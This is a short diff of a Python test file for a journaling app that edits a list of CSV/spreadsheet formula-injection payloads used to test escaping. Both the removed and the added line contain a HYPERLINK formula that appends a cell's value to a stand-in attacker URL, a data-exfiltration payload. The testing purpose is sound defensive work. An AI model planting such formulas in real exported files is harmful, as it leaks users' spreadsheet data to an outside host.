@@ -22,7 +22,7 @@ from journal.store import Database, utcnow
 from journal.store import entries as entries_repo
 
 ONE_TO_ONE = {"who": "Sam", "common_ground": "We both cycle in.", "agreed": "Coffee on Friday."}
-INJECTIONS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1)", "\t=1"]
+INJECTIONS = ['=HYPERLINK("https://e.vil/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "\t=1"]  # each fits in a tag
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 # Characters YAML refuses, or reads as line breaks: none may be left raw in a front-matter value.
 NOT_YAML_PRINTABLE = re.compile(
